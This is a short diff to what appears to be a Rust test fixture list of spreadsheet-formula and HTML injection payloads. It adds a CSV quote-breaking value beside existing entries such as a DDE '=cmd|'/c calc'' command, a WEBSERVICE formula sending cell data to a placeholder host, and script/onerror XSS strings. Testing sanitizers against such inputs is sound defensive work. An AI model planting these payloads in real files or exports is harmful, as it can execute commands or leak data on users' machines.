@@ -21,6 +21,7 @@ const HEADS: &[&str] = &[
     "=HYPERLINK(\"http://a.invalid\",\"x\")",
     "=cmd|'/c calc'!A1",
     "=WEBSERVICE(\"http://a.invalid/\"&A1)",
+    "A;\"=1+1;",
     "=DDE(\"soffice\";\"a.ods\";\"A1\")",
     "<script>document.title='caught'</script>",
     "<img src=x onerror=\"document.title='caught'\">",
